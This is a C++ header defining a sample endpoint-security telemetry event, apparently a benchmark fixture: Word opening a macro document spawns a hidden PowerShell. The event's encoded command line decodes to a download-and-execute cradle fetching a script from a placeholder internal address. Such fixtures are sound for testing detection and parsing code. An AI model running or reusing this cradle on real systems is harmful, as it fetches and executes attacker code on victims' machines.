#pragma once

#include <string>

namespace bench {

// A process-creation event of about 1.5 KB, shaped like the host's.
inline const std::string kEvent = R"({
  "eventType": "ProcessCreate", "throttlingId": 1207, "timestamp": 1796561123456,
  "agentId": "5f0c3c1e-9a7b-4f2e-8d61-0b9f7c2a4e11", "hostName": "WS-FINANCE-0231",
  "process": {
    "pid": 7412, "name": "powershell.exe",
    "path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "commandLine": "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgAxAC8AYQAnACkA",
    "integrityLevel": "High", "sessionId": 1, "startTime": 1796561123001,
    "hashes": {"sha256": "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c", "md5": "7353f60b1739074eb17c5f4dddefe239"},
    "signature": {"signed": true, "signer": "Microsoft Windows", "valid": true},
    "user": {"name": "jdoe", "domain": "CORP", "sid": "S-1-5-21-3623811015-3361044348-30300820-1013"}
  },
  "parent": {
    "pid": 5120, "name": "WINWORD.EXE",
    "path": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "commandLine": "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\jdoe\\Downloads\\invoice_8812.docm\""
  },
  "network": {"remoteAddress": "10.0.0.1", "remotePort": 80, "protocol": 6},
  "flags": 1048581, "severity": 3,
  "ioas": [{"guid": "3f1e0a52-7d2b-4c8e-9b61-5a0e2c7d9f10", "version": 4, "markable": true},
           {"guid": "a9c4e2d1-0b3f-4e6a-8c5d-7f2b1e9a3c44", "version": 2, "markable": false}]
})";

}  // namespace bench
